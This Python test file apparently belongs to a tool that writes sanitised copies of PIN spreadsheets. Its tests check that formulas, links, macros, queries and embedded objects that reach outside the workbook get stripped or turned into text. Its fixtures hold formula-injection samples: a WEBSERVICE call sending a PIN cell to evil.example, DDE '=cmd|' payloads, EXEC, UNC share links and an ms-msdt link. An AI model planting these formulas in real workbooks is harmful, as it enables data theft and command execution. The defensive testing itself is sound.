"""A copy of a person's workbook, beside generated PINs, reaches nothing outside of it and runs nothing."""

import re
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference, Series
from openpyxl.formatting.rule import ColorScale, FormatObject, Rule
from openpyxl.packaging.relationship import Relationship
from openpyxl.styles import Color
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula
from openpyxl.worksheet.hyperlink import Hyperlink
from openpyxl.worksheet.table import Table, TableColumn, TableFormula

from bulkvm.model.outcome import Outcome, Status
from bulkvm.readers import read_sheet
from bulkvm.reports.workbook.annotated_copy import write_annotated
from bulkvm.reports.workbook.original.formula_reach import has_external_reference
from bulkvm.reports.workbook.result import write_result
from bulkvm.validation import validate
from tests.reports.clinic import RUN

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DRAWN = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
ART = "http://schemas.openxmlformats.org/drawingml/2006/main"
SHEETS_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
SHEETS = frozenset({"boxes", "my sheet", "o'neil", "sheet2", "sheet3"})
REACHING = (
    '=WEBSERVICE("http://x.example/?"&C2)',
    "=_xlfn.WEBSERVICE(A1)",
    '=webservice ("http://x.example")',
    '=LEN(WEBSERVICE\n("http://x.example"))',
    '=HYPERLINK("http://x.example","y")',
    "=_xlfn.MAP(A1:A2,_xleta.WEBSERVICE)",
    "=_xlfn.MAP(A1:A2,_xleta._xlfn.WEBSERVICE)",
    "=_xlfn.MAP(A1:A2,_xlfn._xleta.image)",
    '=IF(TRUE,_xleta.WEBSERVICE)("http://x.example")',
    "=_xlfn.LET(_xlpm.f,_xleta.HYPERLINK,_xlpm.f(A1))",
    "=_xlfn.LET(_xlpm.f,_xlpm.x.WEBSERVICE,1)",
    '=_xlfn.IMAGE("http://x.example")',
    '=RTD("a",,"b")',
    "=cmd|'/C calc'!A0",
    "=cmd|'/C calc.exe'!'A0'",
    "=MSEXCEL|'\\..\\..\\cmd'!A0",
    '=DDE("a","b","c")',
    '=FILTERXML(A1,"//x")',
    '=CALL("a","b")',
    '=REGISTER.ID("a","b")',
    '=EXEC("calc")',
    '=IMPORTDATA("http://x.example")',
    "=INDIRECT(A1)",
    '=CUBEVALUE("x")',
    '=SQL.REQUEST("x")',
    "=MyOwnFunction(A1)",
    "=_xll.Foo(1)",
    '=COM.EXAMPLE.X("x")',
    "=[1]Sheet1!A1",
    "=[1]Boxes!A1",
    "=[1]!name",
    "=[Book.xlsx]Boxes!A1",
    "=Book.xlsx!name",
    "='[1]My Sheet'!A1",
    "=SUM(A1,'[1]Boxes'!A1)",
    "='C:\\x\\[a.xlsx]Boxes'!A1",
    "='\\\\server\\share\\[a.xlsx]Boxes'!A1",
    "='http://x.example/[a.xlsx]Boxes'!A1",
    "='file:///x.ods'#$Boxes.A1",
    "=Other!A1",
    "=" + "(" * 9_000,
    "=" + "'" * 9_000,
)
HARMLESS = (
    "=_xlfn.BYROW(A1:B2,_xleta.SUM)",
    "=_xlfn.LET(_xlpm.x,A1,_xlpm.x+1)",
    "=SUM(A1:A9)",
    '=A1&" "&B1',
    '=IF(A1="x|y!","http://x.example",B1)',
    "=Boxes!A1",
    "='My Sheet'!$A$1:$B$2",
    "='O''Neil'!A1",
    "=SUM(Sheet2:Sheet3!A1)",
    "='Sheet2:Sheet3'!A1",
    "=VLOOKUP(A1,Boxes!$A:$B,2,FALSE)",
    "=_xlfn.XLOOKUP(A1,B:B,C:C)",
    "=_xlfn._xlws.SORT(A1:A3)",
    "=Boxes!#REF!+1",
    "=Table1[[#This Row],[a b]]+[@Col]",
    "=A1#",
    "={1,2;3,4}",
    '"yes,no"',
    "Boxes!$A$1:$A$9",
    '="a""b|c"',
)


@pytest.mark.parametrize("formula", REACHING)
def test_a_formula_that_may_reach_out_is_known(formula: str) -> None:
    assert has_external_reference(formula, SHEETS)


@pytest.mark.parametrize("formula", HARMLESS)
def test_a_formula_that_only_calculates_is_kept(formula: str) -> None:
    assert not has_external_reference(formula, SHEETS)


def harmless_workbook() -> Workbook:
    workbook = Workbook()
    sheet = workbook.worksheets[0]
    sheet.title = "Boxes"
    for row in (["Ext", "Name", "PIN", "Remark"], ["6201", "Front Desk", "402817"], ["6202", "Lab", "024680"]):
        sheet.append(row)
    sheet["D2"] = "=LEN(B2)"
    sheet["D3"].hyperlink = "mailto:desk@example.com"
    workbook.create_sheet("Lists")["A1"] = "=Boxes!B2"
    for cell, location in (("E4", "Lists!A1"), ("E5", "#'Lists'!$A$1:$A$9"), ("E6", "places")):
        workbook["Lists"][cell].hyperlink = Hyperlink(cell, location=location)
    workbook.defined_names["places"] = DefinedName("places", attr_text="Lists!$A$1:$A$9")
    validation = DataValidation("list", formula1="Lists!$A$1:$A$9", sqref="D2:D9")
    sheet.add_data_validation(validation)
    sheet.conditional_formatting.add("D2:D9", Rule(type="expression", formula=["LEN(D2)>3"]))
    return workbook


def hostile_workbook() -> Workbook:
    workbook = harmless_workbook()
    boxes, lists = workbook.worksheets
    boxes["E2"] = '=_xlfn.WEBSERVICE("http://evil.example/?p="&C2)'
    boxes["E3"] = ArrayFormula("E3:E3", "=[1]Sheet1!A1")
    lists["B1"] = "=cmd|'/C calc'!A0"
    boxes["A3"].hyperlink = "file:///C:/evil.bat"
    lists["C1"].hyperlink = "\\\\evil.example\\share\\x.exe"
    lists["C2"].hyperlink = "ms-msdt:/id x"
    lists["C3"].hyperlink = Hyperlink("C3", location="'\\\\evil.example\\share\\[x.xlsm]S'!A1")
    lists["C4"].hyperlink = Hyperlink("C4", location="#'https://evil.example/[x.xlsm]S'!A1")
    for name in ("Auto_Open", "auto_close_2", "Workbook_Open"):
        workbook.defined_names[name] = DefinedName(name, attr_text="Lists!$A$1")
    workbook.defined_names["evil"] = DefinedName("evil", attr_text="[1]Sheet1!$A$1")
    workbook.defined_names["macro"] = DefinedName("macro", attr_text="Lists!$A$1", xlm=True)
    lists.defined_names["local"] = DefinedName("local", attr_text='WEBSERVICE("http://evil.example")')
    boxes.add_data_validation(DataValidation("list", formula1="INDIRECT(A2)", sqref="E2:E9"))
    boxes.conditional_formatting.add("E2:E9", Rule(type="expression", formula=['WEBSERVICE("http://evil.example")>0']))
    points = [FormatObject(type="formula", val="[1]Sheet1!$A$1"), FormatObject(type="max")]
    scale = ColorScale(cfvo=points, color=[Color("FFFF0000"), Color("FF00FF00")])
    lists.conditional_formatting.add("A1:A9", Rule(type="colorScale", colorScale=scale))
    chart = BarChart()
    chart.append(Series(Reference(range_string="'[1]Sheet1'!$A$1:$A$3")))
    boxes.add_chart(chart, "H2")
    table = Table(displayName="T", name="T", ref="G1:H2", tableType="queryTable", connectionId=1)
    table.tableColumns = [TableColumn(id=1, name="g"), TableColumn(id=2, name="h", queryTableFieldId=2)]
    table.tableColumns[0].calculatedColumnFormula = TableFormula(attr_text='WEBSERVICE("http://evil.example")')
    lists["G1"], lists["H1"] = "g", "h"
    lists.add_table(table)
    book = ExternalBook(id="rId1")
    link = ExternalLink(externalBook=book)
    target = "file:///C:/evil.xlsx"
    link.file_link = Relationship("rId1", type="externalLinkPath", Target=target, TargetMode="External")
    vars(workbook)["_external_links"].append(link)
    return workbook


def annotate(workbook: Workbook, folder: Path) -> Path:
    workbook.save(folder / "boxes.xlsx")
    sheet = read_sheet(folder / "boxes.xlsx")
    return write_annotated(folder / "copy.xlsx", sheet, validate(sheet).problems)


def notices(file: Path) -> str:
    return " ".join(str(cell.value) for cell in openpyxl.load_workbook(file)["bulkvm"]["A"])


def formulas(file: Path) -> set[str]:
    workbook = openpyxl.load_workbook(file)
    cells: list[Any] = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    return {str(getattr(cell.value, "text", cell.value)) for cell in cells if cell.data_type == "f"}


def test_nothing_in_a_copy_reaches_out_of_it_or_starts_by_itself(tmp_path: Path) -> None:
    copy = annotate(hostile_workbook(), tmp_path)

    with ZipFile(copy) as archive:
        parts = {name: archive.read(name).decode(errors="replace") for name in archive.namelist()}
    assert formulas(copy) == {"=LEN(B2)", "=Boxes!B2"}
    assert not [name for name in parts if "external" in name.lower() or "connection" in name or "query" in name.lower()]
    assert "copy completely" not in notices(copy)
    structure = {name: re.sub("<t( [^>]*)?>[^<]*</t>", "", text) for name, text in parts.items()}
    for word in (
        "evil",
        "calc'",
        "WEBSERVICE",
        "INDIRECT",
        "[1]",
        "uto_",
        "Workbook_Open",
        "msdt",
        "queryTable",
        "xlm=",
    ):
        assert not [name for name, text in structure.items() if word in text], word
    relations = " ".join(text for name, text in parts.items() if name.endswith(".rels"))
    assert relations.count('TargetMode="External"') == 1  # the address


def test_external_formulas_become_text_and_the_summary_lists_them(tmp_path: Path) -> None:
    copy = annotate(hostile_workbook(), tmp_path)

    workbook = openpyxl.load_workbook(copy)
    assert workbook["Boxes"]["E2"].value == '=_xlfn.WEBSERVICE("http://evil.example/?p="&C2)'
    assert workbook["Boxes"]["E2"].data_type == "s"
    assert workbook["Lists"]["B1"].value == "=cmd|'/C calc'!A0"
    reported = notices(copy)
    assert "3 formulas (Boxes!E2, Boxes!E3, Lists!B1), " in reported
    for what in (
        "5 links",
        "6 names",
        "1 connection to",
        "1 input rule",
        "2 conditional formats",
        "1 chart",
        "1 query",
    ):
        assert what in reported


def test_harmless_formulas_names_links_and_rules_stay(tmp_path: Path) -> None:
    copy = annotate(harmless_workbook(), tmp_path)

    workbook = openpyxl.load_workbook(copy)
    assert formulas(copy) == {"=LEN(B2)", "=Boxes!B2"}
    assert workbook.defined_names["places"].value == "Lists!$A$1:$A$9"
    assert workbook["Boxes"]["D3"].hyperlink.target == "mailto:desk@example.com"
    links = [workbook["Lists"][cell].hyperlink.location for cell in ("E4", "E5", "E6")]
    assert links == ["Lists!A1", "#'Lists'!$A$1:$A$9", "places"]
    assert [rule.formula1 for rule in workbook["Boxes"].data_validations.dataValidation] == ["Lists!$A$1:$A$9"]
    assert [rule.formula for area in workbook["Boxes"].conditional_formatting for rule in area.rules] == [["LEN(D2)>3"]]
    assert "outside the workbook" not in notices(copy)


def test_a_formula_that_reaches_out_in_a_column_that_is_read_is_refused_again(tmp_path: Path) -> None:
    workbook = harmless_workbook()
    workbook.worksheets[0]["B3"] = '=WEBSERVICE("http://evil.example")'

    copy = annotate(workbook, tmp_path)

    assert formulas(copy) == {"=LEN(B2)", "=Boxes!B2"}
    assert [(p.cell, p.code) for p in validate(read_sheet(copy)).problems if p.is_error] == [("B3", "cell-refused")]


def add_parts(file: Path) -> None:
    """Add what openpyxl does not: programs, objects, controls, links of pictures, queries, outer pivot sources."""
    parts = {
        "xl/vbaProject.bin": "evil macro",
        "xl/macrosheets/sheet1.xml": f'<macrosheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><f>EXEC("evil")</f>'
        "</c></row></sheetData></macrosheet>",
        "xl/embeddings/oleObject1.bin": "evil object",
        "xl/activeX/activeX1.xml": "<evil/>",
        "xl/activeX/activeX1.bin": "evil control",
        "xl/ctrlProps/ctrlProp1.xml": '<formControlPr macro="evil"/>',
        "xl/connections.xml": f'<connections xmlns="{MAIN}"><connection id="1"'
        ' name="evil" refreshOnLoad="1"/></connections>',
        "xl/queryTables/queryTable1.xml": f'<queryTable xmlns="{MAIN}"'
        ' name="evil" connectionId="1" refreshOnLoad="1"/>',
        "xl/pivotCache/pivotCacheDefinition1.xml": f'<pivotCacheDefinition xmlns="{MAIN}" refreshOnLoad="1">'
        '<cacheSource type="external" connectionId="1"/><cacheFields count="0"/></pivotCacheDefinition>',
        "xl/pivotTables/pivotTable1.xml": f'<pivotTableDefinition xmlns="{MAIN}"'
        ' name="evil" cacheId="1" dataCaption="x">'
        '<location ref="K1:L2" firstHeaderRow="1" firstDataRow="1" firstDataCol="1"/></pivotTableDefinition>',
        "xl/pivotTables/_rels/pivotTable1.xml.rels": relations(
            ("pivotCacheDefinition", "/xl/pivotCache/pivotCacheDefinition1.xml")
        ),
        "xl/drawings/drawing1.xml": f'<xdr:wsDr xmlns:xdr="{DRAWN}" xmlns:a="{ART}"'
        f' xmlns:r="{OFFICE}"><xdr:oneCellAnchor>'
        '<xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>9</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>'
        '<xdr:ext cx="9525" cy="9525"/>'
        '<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="evil"/><xdr:cNvPicPr/></xdr:nvPicPr>'
        '<xdr:blipFill><a:blip r:link="x1"/></xdr:blipFill><xdr:spPr/></xdr:pic><xdr:clientData/></xdr:oneCellAnchor>'
        "</xdr:wsDr>",
        "xl/drawings/_rels/drawing1.xml.rels": relations(("image", "http://evil.example/x.png")).replace(
            "/>", ' TargetMode="External"/>'
        ),
        "xl/worksheets/_rels/sheet1.xml.rels": relations(
            ("drawing", "/xl/drawings/drawing1.xml"),
            ("oleObject", "/xl/embeddings/oleObject1.bin"),
            ("control", "/xl/activeX/activeX1.xml"),
            ("ctrlProp", "/xl/ctrlProps/ctrlProp1.xml"),
            ("queryTable", "/xl/queryTables/queryTable1.xml"),
            ("pivotTable", "/xl/pivotTables/pivotTable1.xml"),
        ),
    }  # fmt: skip
    with ZipFile(file) as archive:
        old = {name: archive.read(name).decode() for name in archive.namelist()}
    own = "xl/worksheets/_rels/sheet1.xml.rels"
    parts[own] = old[own].replace("</Relationships>", parts[own].partition(">")[2])
    sheet = old["xl/worksheets/sheet1.xml"]
    inside = f'<drawing xmlns:r="{OFFICE}" r:id="x1"/>'
    inside += f'<oleObjects xmlns:r="{OFFICE}"><oleObject progId="evil" shapeId="1" r:id="x2"/></oleObjects>'
    inside += f'<controls xmlns:r="{OFFICE}"><control shapeId="2" r:id="x3" name="evil"/></controls>'
    old["xl/worksheets/sheet1.xml"] = sheet.replace("</worksheet>", f"{inside}</worksheet>")
    book = old["xl/workbook.xml"]
    macros = f'<sheet xmlns:r="{OFFICE}" name="Macro1" sheetId="9" r:id="rId91"/></sheets>'
    caches = f'<pivotCaches><pivotCache xmlns:r="{OFFICE}" cacheId="1" r:id="rId93"/></pivotCaches></workbook>'
    old["xl/workbook.xml"] = book.replace("</sheets>", macros).replace("</workbook>", caches)
    more = "".join(
        f'<Relationship Id="rId9{n}" Type="{kind}" Target="/{target}"/>'
        for n, kind, target in (
            (0, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "xl/vbaProject.bin"),
            (1, "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "xl/macrosheets/sheet1.xml"),
            (2, f"{OFFICE}/connections", "xl/connections.xml"),
            (3, f"{OFFICE}/pivotCacheDefinition", "xl/pivotCache/pivotCacheDefinition1.xml"),
        )
    )
    rels = "xl/_rels/workbook.xml.rels"
    old[rels] = old[rels].replace("</Relationships>", f"{more}</Relationships>")
    overrides = "".join(
        f'<Override PartName="/{part}" ContentType="{kind}"/>'
        for part, kind in (
            ("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
            ("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"),
            ("xl/connections.xml", f"{SHEETS_TYPE}.connections+xml"),
            ("xl/queryTables/queryTable1.xml", f"{SHEETS_TYPE}.queryTable+xml"),
            ("xl/pivotCache/pivotCacheDefinition1.xml", f"{SHEETS_TYPE}.pivotCacheDefinition+xml"),
            ("xl/pivotTables/pivotTable1.xml", f"{SHEETS_TYPE}.pivotTable+xml"),
            ("xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml"),
            ("xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
        )
    )
    types = old["[Content_Types].xml"].replace("</Types>", f"{overrides}</Types>")
    if file.suffix == ".xlsm":
        types = types.replace(f"{SHEETS_TYPE}.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    old["[Content_Types].xml"] = types
    with ZipFile(file, "w") as archive:
        for name, text in {**old, **parts}.items():
            archive.writestr(name, text)


def relations(*targets: tuple[str, str]) -> str:
    """A part's relations, x1 the first of them."""
    each = "".join(
        f'<Relationship Id="x{n}" Type="{OFFICE}/{kind}" Target="{target}"/>'
        for n, (kind, target) in enumerate(targets, start=1)
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{each}</Relationships>'


@pytest.mark.parametrize("suffix", ["xlsx", "xlsm"])
@pytest.mark.parametrize("as_result", [False, True])
def test_programs_objects_queries_and_outer_pictures_are_in_no_copy(
    tmp_path: Path, suffix: str, *, as_result: bool
) -> None:
    file = tmp_path / f"boxes.{suffix}"
    harmless_workbook().save(file)
    add_parts(file)
    sheet = read_sheet(file, sheet="Boxes")
    problems = validate(sheet).problems

    if as_result:
        outcomes = [Outcome(row=row, extension_number="", status=Status.INVALID) for row in (2, 3)]
        copy = write_result(tmp_path / "copy.xlsx", sheet, outcomes, problems, RUN)
    else:
        copy = write_annotated(tmp_path / "copy.xlsx", sheet, problems)

    with ZipFile(copy) as archive:
        parts = {name: archive.read(name).decode(errors="replace") for name in archive.namelist()}
    assert formulas(copy) == {"=LEN(B2)", "=Boxes!B2"}
    # A formula of a macro sheet is text in a sheet of cells.
    structure = {name: re.sub("<t( [^>]*)?>[^<]*</t>", "", text) for name, text in parts.items()}
    assert not [name for name, text in structure.items() if "evil" in text or re.search("macro(sheet|Enabled)", text)]
    assert not re.findall(
        "vba|macrosheet|embedding|activeX|ctrlProp|connection|query|pivot", " ".join(parts), re.IGNORECASE
    )
    assert "".join(parts.values()).count('TargetMode="External"') == 1  # the address
